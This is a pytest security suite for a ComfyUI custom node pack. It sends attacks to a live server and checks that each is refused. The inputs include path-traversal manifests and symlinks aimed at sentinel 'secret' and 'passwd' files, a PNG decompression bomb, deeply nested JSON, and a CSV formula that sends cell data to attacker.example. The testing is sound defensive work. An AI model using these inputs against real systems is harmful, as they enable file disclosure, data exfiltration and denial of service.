"""Attacks through ComfyUI's HTTP API only, on a live server: each is refused with a message that names
the node and the input, nothing outside the base directory is read or written, and the server keeps
running prompts afterwards.

The attacker's tools are ``POST /upload/image`` (any bytes, any name, into ``input/`` or ``output/``
with a ``subfolder``, ``overwrite`` included) and ``POST /prompt``.
"""
from __future__ import annotations

import io
import json
import uuid

import numpy as np
import pytest
from PIL import Image

pytestmark = pytest.mark.server

SENTINEL = b"CONTINUITY-SENTINEL-" + uuid.uuid4().hex.encode()


# --------------------------------------------------------------------------- helpers

def upload(server, filename: str, data: bytes, *, type_: str = "output", subfolder: str = "", overwrite=True):
    """POST /upload/image as multipart/form-data: what any client of the server can do."""
    boundary = uuid.uuid4().hex
    parts = []
    for name, value in (("type", type_), ("subfolder", subfolder), ("overwrite", "true" if overwrite else "false")):
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="image"; filename="{filename}"\r\n'
                 f"Content-Type: application/octet-stream\r\n\r\n".encode() + data + b"\r\n")
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    status, raw = server.request("POST", "/upload/image", body,
                                 {"Content-Type": f"multipart/form-data; boundary={boundary}"})
    assert status == 200, raw
    return json.loads(raw)


def png(seed=0, size=(40, 32)) -> bytes:
    arr = np.random.default_rng(seed).integers(0, 255, (size[1], size[0], 3), dtype=np.uint8)
    buf = io.BytesIO()
    Image.fromarray(arr).save(buf, format="PNG")
    return buf.getvalue()


@pytest.fixture(scope="module")
def sentinels(server):
    """Files outside the base directory: their bytes must never show up inside it or in a response."""
    outside = server.base.parent / f"outside-{uuid.uuid4().hex[:8]}"
    outside.mkdir()
    files = {}
    for name in ("secret.png", "secret.txt", "passwd"):
        p = outside / name
        p.write_bytes(png(99) + SENTINEL if name.endswith(".png") else SENTINEL)
        files[name] = p
    before = {p: p.read_bytes() for p in files.values()}
    yield files
    for p, data in before.items():
        assert p.read_bytes() == data, f"{p.name} outside the base directory was changed"
    assert sorted(x.name for x in outside.iterdir()) == sorted(files), "something was written outside the base"
    for p in server.base.rglob("*"):
        if p.is_file() and not p.is_symlink() and p.stat().st_size < 50_000_000 and "custom_nodes" not in p.parts:
            assert SENTINEL not in p.read_bytes(), f"a file outside the base directory was copied into {p}"


def refused(server, prompt, node_title: str, input_name: str) -> str:
    """Queue ``prompt``; it must be refused (HTTP 400 or an execution error) naming the node and input.
    Returns the message. The server's absolute paths and the sentinel never appear in it."""
    status, body = server.post_prompt(prompt)
    if status == 400:
        text = json.dumps(body)
    else:
        assert status == 200, body
        entry = server.wait_history(body["prompt_id"], 120)
        assert entry["status"]["status_str"] == "error", "the attack was not refused"
        # what the pack says (ComfyUI's own traceback beside it names its source files)
        text = json.dumps([m[1].get("exception_message") for m in entry["status"]["messages"]
                           if m[0] == "execution_error"])
    assert node_title in text and f"input '{input_name}'" in text, text[:2000]
    assert str(server.base) not in text, f"the message leaks a server path: {text[:2000]}"
    assert SENTINEL.decode() not in text
    return text


def still_serves(server):
    """A harmless prompt still runs to the end (the worker is alive)."""
    name = f"alive_{uuid.uuid4().hex[:6]}"
    upload(server, "a.png", png(1), type_="input", subfolder=name)
    entry = server.run({"1": {"class_type": "ContinuityLoadImageFolder",
                              "inputs": {"folder": name, "mode": "list", "recursive": False, "start": 0, "limit": 0,
                                         "caption_extension": ".txt"}},
                        "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 4]}}}, 120)
    assert entry["status"]["status_str"] == "success"


def _dataset(server, name: str) -> dict:
    """A real dataset version saved by the pack (v1), made through the HTTP API."""
    folder = f"src_{name}"
    for i in range(2):
        upload(server, f"img{i}.png", png(i), type_="input", subfolder=folder)
    server.run({"1": {"class_type": "ContinuityLoadImageFolder",
                      "inputs": {"folder": folder, "mode": "list", "recursive": False, "start": 0, "limit": 0,
                                 "caption_extension": ".txt"}},
                "2": {"class_type": "ContinuitySaveDatasetVersion",
                      "inputs": {"images": ["1", 0], "name": name, "note": "", "filenames": ["1", 2],
                                 "captions": ["1", 3], "masks": ["1", 1]}}}, 120)
    path = server.base / "output" / "continuity" / "datasets" / name / "v1" / "manifest.json"
    return json.loads(path.read_text())


def _load_version(name, version=1):
    return {"class_type": "ContinuityLoadDatasetVersion", "inputs": {"name": name, "version": version}}


# --------------------------------------------------------------------------- ComfyUI's own checks stay on

def _source_for(type_name):
    """A built-in node giving ``type_name``, so a graph is complete but for the value under test."""
    return {"IMAGE": ("EmptyImage", {"width": 8, "height": 8, "batch_size": 1, "color": 0}),
            "MASK": ("SolidMask", {"value": 1.0, "width": 8, "height": 8}),
            "STRING": ("PrimitiveString", {"value": "x"}),
            "INT": ("PrimitiveInt", {"value": 1}),
            "FLOAT": ("PrimitiveFloat", {"value": 0.5})}.get(type_name)


def _widget_default(spec):
    kind, opts = spec[0], (spec[1] if len(spec) > 1 else {}) or {}
    if isinstance(kind, list):
        return kind[0] if kind else None
    if kind == "COMBO":
        return (opts.get("options") or [None])[0]
    if kind in ("INT", "FLOAT", "BOOLEAN", "STRING") and "default" in opts:
        return opts["default"]
    return {"INT": 0, "FLOAT": 0.0, "BOOLEAN": False, "STRING": ""}.get(kind)


def _bad_values(spec):
    """Out-of-range numbers and an out-of-list combo value for one input, from its /object_info spec."""
    kind, opts = spec[0], (spec[1] if len(spec) > 1 else {}) or {}
    if isinstance(kind, list) or kind == "COMBO":
        yield "value_not_in_list", f"not-an-option-{uuid.uuid4().hex[:6]}"
    elif kind in ("INT", "FLOAT"):
        step = 1 if kind == "INT" else 1.0
        if opts.get("min") is not None:
            yield "value_smaller_than_min", opts["min"] - step
        if opts.get("max") is not None and abs(opts["max"]) < 2**53:
            yield "value_bigger_than_max", opts["max"] + step


# Combos whose list is what exists *now* and that accept a name made earlier in the same queue: their own
# validate_inputs checks the value as a name, and execution refuses a missing one naming the input.
DYNAMIC_NAME_COMBOS = {("ContinuityLoadCharacter", "name")}


def test_every_number_and_combo_is_checked_by_comfyui(server, sentinels):
    info = server.get("/object_info")
    ours = {k: v for k, v in info.items() if k.startswith("Continuity") and "Test" not in k}
    assert len(ours) > 20
    checked = 0
    for node_id, node in sorted(ours.items()):
        inputs = {**node["input"].get("required", {}), **node["input"].get("optional", {})}
        required = set(node["input"].get("required", {}))
        base, links = {}, {}
        for name, spec in inputs.items():
            default = _widget_default(spec)
            kind = spec[0] if not isinstance(spec[0], list) else "COMBO"
            force = len(spec) > 1 and isinstance(spec[1], dict) and spec[1].get("forceInput")
            if kind in ("INT", "FLOAT", "BOOLEAN", "STRING", "COMBO") and not force and default is not None:
                base[name] = default
            elif name in required and _source_for(kind):
                links[name] = _source_for(kind)
        for name, spec in inputs.items():
            if name not in base:
                continue
            for err_type, bad in _bad_values(spec):
                if (node_id, name) in DYNAMIC_NAME_COMBOS:
                    continue
                prompt = {"1": {"class_type": node_id, "inputs": dict(base, **{name: bad})}}
                for i, (lname, (cls, vals)) in enumerate(sorted(links.items())):
                    prompt[f"s{i}"] = {"class_type": cls, "inputs": vals}
                    prompt["1"]["inputs"][lname] = [f"s{i}", 0]
                if not node.get("output_node"):
                    prompt["sink"] = {"class_type": "PreviewAny", "inputs": {"source": ["1", 0]}}
                status, body = server.post_prompt(prompt)
                assert status == 400, f"{node_id}.{name}={bad!r} was accepted by /prompt"
                errors = body.get("node_errors", {}).get("1", {}).get("errors", [])
                ours_err = [e for e in errors if e.get("extra_info", {}).get("input_name") == name
                            and (e["type"] == err_type or (e["type"] == "custom_validation_failed"
                                                           and f"input '{name}'" in e.get("details", "")))]
                assert ours_err, f"{node_id}.{name}={bad!r}: no range/list error for the input: {json.dumps(errors)[:800]}"
                checked += 1
    assert checked > 50
    still_serves(server)


def test_dynamic_name_combo_refuses_a_missing_profile_naming_the_input(server, sentinels):
    refused(server, {"1": {"class_type": "ContinuityLoadCharacter", "inputs": {"name": "nobody_here", "revision": 0}},
                     "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 5]}}},
            "Load Character", "name")


def test_crop_target_size_past_its_max_is_400(server, sentinels):
    status, body = server.post_prompt({
        "1": {"class_type": "EmptyImage", "inputs": {"width": 8, "height": 8, "batch_size": 1, "color": 0}},
        "2": {"class_type": "SolidMask", "inputs": {"value": 1.0, "width": 8, "height": 8}},
        "3": {"class_type": "ContinuityCropForInpaint",
              "inputs": {"image": ["1", 0], "mask": ["2", 0], "context": 1.5, "min_size": 64, "target_size": 16384,
                         "padding": "edge"}},
        "4": {"class_type": "PreviewAny", "inputs": {"source": ["3", 2]}}})
    assert status == 400 and "target_size" in json.dumps(body)


# --------------------------------------------------------------------------- stored state read back

def _attack_manifest(items):
    return json.dumps({"format": "continuity-dataset/2", "name": "x", "version": 1, "created": "", "parent": None,
                       "note": "", "count": len(items), "caption_extension": ".txt", "items": items,
                       "provenance": {}}).encode()


def test_uploaded_dataset_manifest_pointing_outside_is_refused(server, sentinels):
    secret = sentinels["secret.png"]
    rel_up = "../../../../../" + secret.parent.name + "/secret.png"
    for name, file_, mask in (("atk_abs", str(secret), None), ("atk_dotdot", rel_up, None),
                              ("atk_mask", "img0.png", str(sentinels["passwd"]))):
        upload(server, "img0.png", png(3), subfolder=f"continuity/datasets/{name}/v1")
        upload(server, "manifest.json", _attack_manifest([{
            "file": file_, "width": 40, "height": 32, "sha256": "0" * 64, "caption": "", "caption_file": None,
            "mask_file": mask, "mask_sha256": None, "source": "", "fixed_from": None, "scores": {}}]),
            subfolder=f"continuity/datasets/{name}/v1")
        msg = refused(server, {"1": _load_version(name), "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 5]}}},
                      "Load Dataset Version", "version")
        assert "signature" in msg
    still_serves(server)


def test_pack_written_manifest_edited_is_refused_by_load_and_merge(server, sentinels):
    man = _dataset(server, "atk_edit")
    base = server.base / "output" / "continuity" / "datasets" / "atk_edit" / "v1"
    merge = {"1": _load_version("atk_edit"), "2": {"class_type": "ImageInvert", "inputs": {"image": ["1", 1]}},
             "3": {"class_type": "ContinuityMergeFixedImages",
                   "inputs": {"dataset": ["1", 0], "fixed_images": ["2", 0], "filenames": ["1", 3], "note": ""}}}
    server.run(merge, 120)                     # Load Dataset Version's result is now cached by ComfyUI
    assert (base.parent / "v2").is_dir()
    edited = dict(man)
    edited["items"] = [dict(man["items"][0], mask_file="../../../../../" + sentinels["passwd"].parent.name + "/passwd")]
    edited["count"] = 1
    upload(server, "manifest.json", json.dumps(edited).encode(), subfolder="continuity/datasets/atk_edit/v1")
    # the replaced manifest makes Load Dataset Version read again, and refuse; Merge itself reads its base
    # again through the store too (tests/pack/test_store_readback_core.py: the DATASET value is never trusted)
    merge["3"]["inputs"]["note"] = "again"
    refused(server, merge, "Load Dataset Version", "version")
    assert not (base.parent / "v3").exists()
    refused(server, {"1": _load_version("atk_edit"), "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 5]}}},
            "Load Dataset Version", "version")
    still_serves(server)


def test_tampered_or_linked_version_files_give_a_clean_error(server, sentinels):
    man = _dataset(server, "atk_files")
    v1 = server.base / "output" / "continuity" / "datasets" / "atk_files" / "v1"
    graph = {"1": _load_version("atk_files"), "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 5]}}}
    mask_rel = next(r["mask_file"] for r in man["items"] if r["mask_file"]) if any(
        r["mask_file"] for r in man["items"]) else None
    target = mask_rel or man["items"][0]["file"]
    folder, _, fname = ("continuity/datasets/atk_files/v1/" + target).rpartition("/")
    upload(server, fname, b"\x89PNG\r\n\x1a\n not a png at all", subfolder=folder)   # a raw PIL error once leaked paths
    msg = refused(server, graph, "Load Dataset Version", "version")
    assert "changed after it was written" in msg
    # a file of the version swapped for a link to outside (a local user could do this)
    img = v1 / man["items"][-1]["file"]
    img.unlink()
    img.symlink_to(sentinels["secret.png"])
    (v1 / target).unlink()
    upload(server, fname, b"", subfolder=folder)
    refused(server, graph, "Load Dataset Version", "version")
    still_serves(server)


def test_uploaded_character_profile_is_refused(server, sentinels):
    entry = {"revision": 1, "time": "", "action": "create", "summary": "", "changes": {},
             "profile": {"name": "atk_char", "trigger_word": "", "class_phrase": "", "style": "realistic",
                         "references": [str(sentinels["secret.png"]), "../../../" + sentinels["secret.png"].name],
                         "style_references": [], "embeddings": {"dlib": {"file": str(sentinels["passwd"]), "count": 1,
                                                                        "dim": 128, "sha256": "0" * 64}},
                         "thresholds": {}, "default_threshold": None, "style_threshold": 0.75,
                         "clip_style_threshold": None, "datasets": [], "loras": [], "notes": "", "revision": 1}}
    upload(server, "000001.json", json.dumps(entry).encode(), subfolder="continuity/characters/atk_char/manifest")
    msg = refused(server, {"1": {"class_type": "ContinuityLoadCharacter", "inputs": {"name": "atk_char", "revision": 0}},
                           "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 5]}}},
                  "Load Character", "name")
    assert "signature" in msg
    still_serves(server)


def test_input_folder_files_linked_outside_are_refused(server, sentinels):
    upload(server, "ok.png", png(4), type_="input", subfolder="atk_links")
    (server.base / "input" / "atk_links" / "zz.png").symlink_to(sentinels["secret.png"])
    msg = refused(server, {"1": {"class_type": "ContinuityLoadImageFolder",
                                 "inputs": {"folder": "atk_links", "mode": "list", "recursive": False, "start": 0,
                                            "limit": 0, "caption_extension": ".txt"}},
                           "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 4]}}},
                  "Load Image Folder", "folder")
    assert "zz.png" in msg
    # a caption beside a real image that is a link to outside (it would come back as the caption text)
    (server.base / "input" / "atk_links" / "zz.png").unlink()
    (server.base / "input" / "atk_links" / "ok.txt").symlink_to(sentinels["secret.txt"])
    refused(server, {"1": {"class_type": "ContinuityLoadImageFolder",
                           "inputs": {"folder": "atk_links", "mode": "list", "recursive": False, "start": 0,
                                      "limit": 0, "caption_extension": ".txt"}},
                     "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 3]}}},
            "Load Image Folder", "folder")
    (server.base / "input" / "atk_links" / "ok.txt").unlink()
    # a linked sub-folder is refused too when recursing
    (server.base / "input" / "atk_links" / "sub").symlink_to(sentinels["secret.png"].parent, target_is_directory=True)
    refused(server, {"1": {"class_type": "ContinuityLoadImageFolder",
                           "inputs": {"folder": "atk_links", "mode": "list", "recursive": True, "start": 0,
                                      "limit": 0, "caption_extension": ".txt"}},
                     "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 4]}}},
            "Load Image Folder", "folder")
    still_serves(server)


# --------------------------------------------------------------------------- text inputs

BAD_TEXTS = ["\ud800", "a\udfffb", "nul\x00", "esc\x1b[2J", "x" * 3_000_000]


def test_invalid_text_is_refused_and_the_worker_survives(server, sentinels):
    for bad in BAD_TEXTS[:4]:
        refused(server, {"1": {"class_type": "ContinuitySaveCharacter",
                               "inputs": {"name": bad, "trigger_word": "", "class_phrase": "", "style": "keep",
                                          "threshold": 0.0, "notes": ""}}},
                "Save Character", "name")
        refused(server, {"1": {"class_type": "ContinuityBuildCaption",
                               "inputs": {"trigger": "ohwx", "class_word": "man", "appearance": bad, "framing": "",
                                          "background": "", "extra": "", "prefix": "photo of", "include_trigger": True,
                                          "include_appearance": True, "include_framing": True,
                                          "include_background": True}},
                         "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 0]}}},
                "Build Caption", "appearance")
        refused(server, {"1": {"class_type": "ContinuityLoadImageFolder",
                               "inputs": {"folder": bad, "mode": "list", "recursive": False, "start": 0, "limit": 0,
                                          "caption_extension": ".txt"}},
                         "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 4]}}},
                "Load Image Folder", "folder")
    refused(server, {"1": {"class_type": "ContinuitySaveCharacter",
                           "inputs": {"name": "ok", "trigger_word": "", "class_phrase": "", "style": "keep",
                                      "threshold": 0.0, "notes": BAD_TEXTS[4]}}},
            "Save Character", "notes")
    still_serves(server)
    log = server.log_tail(200_000)
    assert "UnicodeEncodeError" not in log and "Logging error" not in log


def test_caption_files_are_size_capped(server, sentinels):
    upload(server, "a.png", png(5), type_="input", subfolder="atk_caption")
    upload(server, "a.txt", b"word " * 40_000, type_="input", subfolder="atk_caption")
    refused(server, {"1": {"class_type": "ContinuityLoadImageFolder",
                           "inputs": {"folder": "atk_caption", "mode": "list", "recursive": False, "start": 0,
                                      "limit": 0, "caption_extension": ".txt"}},
                     "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 4]}}},
            "Load Image Folder", "caption_extension")
    still_serves(server)


# --------------------------------------------------------------------------- resource bounds

def _empty(w, h, n=1):
    return {"class_type": "EmptyImage", "inputs": {"width": w, "height": h, "batch_size": n, "color": 0}}


def test_resource_bounds_are_refused_before_allocating(server, sentinels):
    # a sheet wider than the cutting cap (tiny in pixels: the refusal is by side, from the shape)
    refused(server, {"1": _empty(8200, 8), "2": {"class_type": "ContinuityCutCompositeSheet",
                                                   "inputs": {"sheet": ["1", 0], "method": "gutters", "square": True,
                                                              "size": 64, "drop_faceless": False}},
                     "3": {"class_type": "PreviewAny", "inputs": {"source": ["2", 2]}}},
            "Cut Composite Sheet", "sheet")
    # 64 tiny images squared to 8192 would be 4.3 G pixels: refused from the count before any is made
    refused(server, {"1": _empty(8, 8, 64), "2": {"class_type": "ContinuitySquareAndResize",
                                                    "inputs": {"images": ["1", 0], "size": 8192, "mode": "pad",
                                                               "max_upscale": 16.0, "use_person_mask": False}},
                     "3": {"class_type": "PreviewAny", "inputs": {"source": ["2", 2]}}},
            "Square and Resize", "size")
    refused(server, {"1": _empty(8200, 8), "2": {"class_type": "ContinuityDatasetAudit",
                                                   "inputs": {"images": ["1", 0], "identity_model": "none",
                                                              "min_side": 64, "min_count": 1, "yaw_threshold": 20.0,
                                                              "pitch_threshold": 25.0, "use_person_mask": False}},
                     "3": {"class_type": "PreviewAny", "inputs": {"source": ["2", 0]}}},
            "Dataset Audit", "images")
    crop = {"1": _empty(8, 8, 16), "2": {"class_type": "SolidMask", "inputs": {"value": 1.0, "width": 8, "height": 8}},
            "3": {"class_type": "ContinuityCropForInpaint",
                  "inputs": {"image": ["1", 0], "mask": ["2", 0], "context": 1.5, "min_size": 8, "target_size": 4096,
                             "padding": "edge"}},
            "4": {"class_type": "PreviewAny", "inputs": {"source": ["3", 2]}}}
    refused(server, crop, "Crop For Inpaint", "target_size")
    # a negative size through a link (ComfyUI checks only widget values) is refused cleanly at execution
    crop["1"] = _empty(8, 8, 1)
    crop["5"] = {"class_type": "PrimitiveInt", "inputs": {"value": -64}}
    crop["3"]["inputs"]["target_size"] = ["5", 0]
    refused(server, crop, "Crop For Inpaint", "target_size")
    still_serves(server)


def test_image_files_are_size_checked_from_their_header(server, sentinels):
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    bomb = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))
    upload(server, "bomb.png", bomb, type_="input", subfolder="atk_bomb")
    refused(server, {"1": {"class_type": "ContinuityLoadImageFolder",
                           "inputs": {"folder": "atk_bomb", "mode": "list", "recursive": False, "start": 0, "limit": 0,
                                      "caption_extension": ".txt"}},
                     "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 4]}}},
            "Load Image Folder", "folder")
    still_serves(server)


def test_what_nodes_show_clients_has_no_server_paths(server, sentinels):
    _dataset(server, "shown_paths")
    entry = server.run({"1": _load_version("shown_paths"), "2": {"class_type": "ImageInvert", "inputs": {"image": ["1", 1]}},
                        "3": {"class_type": "ContinuityMergeFixedImages",
                              "inputs": {"dataset": ["1", 0], "fixed_images": ["2", 0], "filenames": ["1", 3],
                                         "note": ""}}}, 120)
    shown = json.dumps(entry["outputs"])
    assert "output/continuity/datasets/shown_paths/v2" in shown and str(server.base) not in shown


# --------------------------------------------------------------------------- values that arrive through links

def _shot(server, n):
    """``n`` frames of a real face (160 px), the face model and Face Tracks: a shot any client can make."""
    from pathlib import Path
    face = Image.open(Path(__file__).resolve().parents[2] / "assets" / "faces" / "img1.jpg").convert("RGB")
    face.thumbnail((160, 160))
    buf = io.BytesIO()
    face.save(buf, format="PNG")
    upload(server, "shot_face.png", buf.getvalue(), type_="input")
    return {"l": {"class_type": "LoadImage", "inputs": {"image": "shot_face.png"}},
            "f": {"class_type": "RepeatImageBatch", "inputs": {"image": ["l", 0], "amount": n}},
            "m": {"class_type": "ContinuityFaceModelLoader",
                  "inputs": {"backend": "mediapipe", "parser": "auto", "embedder": "auto", "device": "cpu"}},
            "t": {"class_type": "ContinuityFaceTracks",
                  "inputs": {"frames": ["f", 0], "face_model": ["m", 0], "min_face": 8, "max_gap": 5, "samples": 2,
                             "cut_threshold": 0.35}}}


def _track_crop(min_size, target_size):
    return {"class_type": "ContinuityTrackCropSequence",
            "inputs": {"frames": ["f", 0], "tracks": ["t", 0], "face_model": ["m", 0], "which": "track 0",
                       "regions": "face", "grow": 5.0, "context": 1.5, "min_size": min_size,
                       "target_size": target_size, "smoothing": 2.0, "padding": "edge"}}


def test_track_crops_are_bounded_and_checked_as_declared(server, sentinels):
    # 4 frames of 160 px with the widest crop window: 4 x 8192^2 mask pixels (GBs) from a few KB of frames
    shot = _shot(server, 4)
    shot.update(c=_track_crop(8192, 64), p={"class_type": "PreviewAny", "inputs": {"source": ["c", 3]}})
    refused(server, shot, "Track Crop Sequence", "min_size")
    # 12 small frames cropped to 4096 px: 12 x 4096^2 x 4 floats (3 GB) for 0.3 M input pixels
    shot = _shot(server, 12)
    shot.update(c=_track_crop(8, 4096), p={"class_type": "PreviewAny", "inputs": {"source": ["c", 3]}})
    refused(server, shot, "Track Crop Sequence", "target_size")
    # a rule of validate_inputs (target_size a multiple of 64) holds for a linked value too: ComfyUI calls
    # validate_inputs with None for a linked input, so the node's own checks run again at execution
    shot["c"] = _track_crop(8, ["n", 0])
    shot["n"] = {"class_type": "PrimitiveInt", "inputs": {"value": 100}}
    refused(server, shot, "Track Crop Sequence", "target_size")
    # the same shot at a sane size still runs
    shot["c"] = _track_crop(8, 64)
    entry = server.run(shot, 120)
    assert entry["status"]["status_str"] == "success"
    still_serves(server)


def test_what_the_pack_saves_it_can_read_back(server, sentinels):
    # scores JSON copied to each of 64 images would make a manifest the reader refuses (a version saved
    # but never loadable): refused before anything is written, naming the input
    g = {"1": _empty(8, 8, 64), "s": {"class_type": "PrimitiveString", "inputs": {"value": json.dumps({"x": [0] * 100_000})}},
         "2": {"class_type": "ContinuitySaveDatasetVersion",
               "inputs": {"images": ["1", 0], "name": "big_scores", "note": "", "scores": ["s", 0]}}}
    refused(server, g, "Save Dataset Version", "scores")
    # JSON nested past what the reader takes (or past Python's recursion limit) is refused cleanly too
    for deep in ('{"x": ' + "[" * 40 + "]" * 40 + "}", "[" * 100_000 + "]" * 100_000):
        g["s"]["inputs"]["value"] = deep
        refused(server, g, "Save Dataset Version", "scores")
    assert not list((server.base / "output" / "continuity" / "datasets" / "big_scores").glob("v*"))
    # modest scores are saved and load back
    g["s"]["inputs"]["value"] = json.dumps({"identity": 0.7})
    g["1"] = _empty(8, 8, 2)
    server.run(g, 120)
    entry = server.run({"1": _load_version("big_scores"), "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 5]}}},
                       120)
    assert entry["status"]["status_str"] == "success"
    still_serves(server)


def test_a_profile_revision_too_big_or_deep_to_read_back_is_never_written(server, sentinels):
    # Record Character Result keeps a report with the LoRA; a report nested past what the profile reader
    # takes, or records piling up past its size bound, would make every later Load Character refuse the
    # profile (the user's character lost): refused when recorded, and the profile still loads
    for i in range(2):
        upload(server, f"r{i}.png", png(10 + i), type_="input", subfolder="deep_report_refs")
    save = {"1": {"class_type": "ContinuityLoadImageFolder",
                  "inputs": {"folder": "deep_report_refs", "mode": "list", "recursive": False, "start": 0, "limit": 0,
                             "caption_extension": ".txt"}},
            "2": {"class_type": "ContinuitySaveCharacter",
                  "inputs": {"name": "deep_report", "trigger_word": "", "class_phrase": "", "style": "keep",
                             "threshold": 0.0, "notes": "", "references": ["1", 0]}}}
    assert server.run(save, 120)["status"]["status_str"] == "success"
    load = {"1": {"class_type": "ContinuityLoadCharacter", "inputs": {"name": "deep_report", "revision": 0}}}

    def record(report):
        return dict(load, **{"2": {"class_type": "ContinuityRecordCharacterResult",
                                   "inputs": {"character": ["1", 0], "lora_name": "x.safetensors", "stage": "1",
                                              "report": report}}})
    refused(server, record('{"a": ' + "[" * 30 + "]" * 30 + "}"), "Record Character Result", "report")
    refused(server, record("[" * 100_000 + "]" * 100_000), "Record Character Result", "report")
    refused(server, record(json.dumps({"a": [1] * 100_000})), "Record Character Result", "report")
    entry = server.run(dict(load, **{"2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 5]}}}), 120)
    assert entry["status"]["status_str"] == "success"
    still_serves(server)


def test_report_csv_cells_from_users_are_text_not_formulas(server, sentinels):
    # a set name or an uploaded file name that a spreadsheet would run as a formula, in the CSV report the
    # team opens: every such cell is kept as text
    import csv
    import urllib.parse
    import urllib.request
    from pathlib import Path
    face = (Path(__file__).resolve().parents[2] / "assets" / "faces" / "img1.jpg").read_bytes()
    upload(server, "ref.jpg", face, type_="input", subfolder="csv_refs")
    upload(server, "=1+2.jpg", face, type_="input", subfolder="csv_cands")
    upload(server, "@SUM(1).jpg", face, type_="input", subfolder="csv_cands")
    folder = {"class_type": "ContinuityLoadImageFolder",
              "inputs": {"mode": "list", "recursive": False, "start": 0, "limit": 0, "caption_extension": ".txt"}}
    entry = server.run({
        "1": {**folder, "inputs": {**folder["inputs"], "folder": "csv_refs"}},
        "2": {**folder, "inputs": {**folder["inputs"], "folder": "csv_cands"}},
        "3": {"class_type": "ContinuityFaceSimilarity",
              "inputs": {"references": ["1", 0], "candidates": ["2", 0], "model": "dlib", "face_policy": "largest",
                         "set_name": '=HYPERLINK("http://attacker.example/?"&A1,"open")', "filenames": ["2", 2]}},
        "4": {"class_type": "ContinuityConsistencyReport",
              "inputs": {"scores_1": ["3", 0], "plot_model": "dlib", "save": True,
                         "filename_prefix": "continuity/reports/csv_cells"}}}, 300)
    assert entry["status"]["status_str"] == "success", entry["status"]
    item = next(f for f in entry["outputs"]["4"]["continuity_files"] if f["filename"].endswith(".csv"))
    q = urllib.parse.urlencode({"filename": item["filename"], "subfolder": item["subfolder"], "type": item["type"]})
    with urllib.request.urlopen(f"http://127.0.0.1:{server.port}/view?{q}", timeout=30) as r:
        rows = list(csv.reader(io.StringIO(r.read().decode("utf-8"))))
    cells = [c for row in rows[1:] for c in row]
    assert any("HYPERLINK" in c for c in cells) and any("=1+2" in c for c in cells)
    for c in cells:
        numeric = c.lstrip("-").replace(".", "", 1).isdigit()
        assert numeric or not c.startswith(("=", "+", "-", "@")), f"a CSV cell a spreadsheet would run: {c!r}"


def test_two_servers_on_one_base_each_get_their_own_version(server, sentinels, tmp_path):
    """Two ComfyUI servers sharing one base folder save the same dataset name at once: every save gets its
    own complete version, none is half-written or overwritten."""
    import harness

    from continuity.dataset import versions as vs
    for i in range(2):
        upload(server, f"s{i}.png", png(20 + i), type_="input", subfolder="two_servers")
    second = harness.LiveServer(server.base, tmp_path / "second-server.log").start()
    try:
        ids = []
        for k in range(3):
            for n, srv in enumerate((server, second)):
                status, body = srv.post_prompt({
                    "1": {"class_type": "ContinuityLoadImageFolder",
                          "inputs": {"folder": "two_servers", "mode": "list", "recursive": False, "start": 0,
                                     "limit": 0, "caption_extension": ".txt"}},
                    "2": {"class_type": "ContinuitySaveDatasetVersion",
                          "inputs": {"images": ["1", 0], "name": "shared", "note": f"server {n} save {k}",
                                     "filenames": ["1", 2]}}})
                assert status == 200, body
                ids.append((srv, body["prompt_id"]))
        for srv, pid in ids:
            assert srv.wait_history(pid, 180)["status"]["status_str"] == "success"
    finally:
        second.stop()
    root = str(server.base / "output" / "continuity" / "datasets")
    assert vs.versions_of(root, "shared") == list(range(1, 7))
    notes = sorted(vs.load_version(root, "shared", v).manifest["note"] for v in range(1, 7))
    assert notes == sorted(f"server {n} save {k}" for n in range(2) for k in range(3))
    assert all(len(vs.read_items(vs.load_version(root, "shared", v))) == 2 for v in range(1, 7))
    still_serves(server)


def test_json_text_nested_past_the_recursion_limit_is_refused_naming_the_input(server, sentinels):
    deep = "[" * 100_000 + "]" * 100_000
    plan = {"1": {"class_type": "ContinuityLoadCharacter", "inputs": {"name": "nobody_here", "revision": 0}},
            "2": {"class_type": "ContinuityCharacterTrainingPlan",
                  "inputs": {"character": ["1", 0], "plan": "custom", "custom_plan": deep,
                             "training_preset": "sdxl_realistic", "checkpoint": "x.safetensors", "overrides": ""}}}
    refused(server, plan, "Character Training Plan", "custom_plan")
    still_serves(server)


def test_nan_numbers_are_refused_naming_the_input(server, sentinels):
    # JSON's NaN (Python's json reads it) passes ComfyUI's min/max checks: every comparison with NaN is false,
    # so a NaN factor ran as if it were in range
    sq = {"1": _empty(8, 8, 1), "2": {"class_type": "ContinuitySquareAndResize",
                                      "inputs": {"images": ["1", 0], "size": 64, "mode": "pad",
                                                 "max_upscale": float("nan"), "use_person_mask": False}},
          "3": {"class_type": "PreviewAny", "inputs": {"source": ["2", 2]}}}
    refused(server, sq, "Square and Resize", "max_upscale")
    sq["4"] = {"class_type": "PrimitiveFloat", "inputs": {"value": float("nan")}}
    sq["2"]["inputs"]["max_upscale"] = ["4", 0]
    refused(server, sq, "Square and Resize", "max_upscale")
    still_serves(server)


def test_names_that_look_alike_are_refused(server, sentinels):
    # a profile or dataset name with an invisible character, a right-to-left override or a second Unicode
    # spelling of the same letters shows like another name but is another folder: refused, naming the input
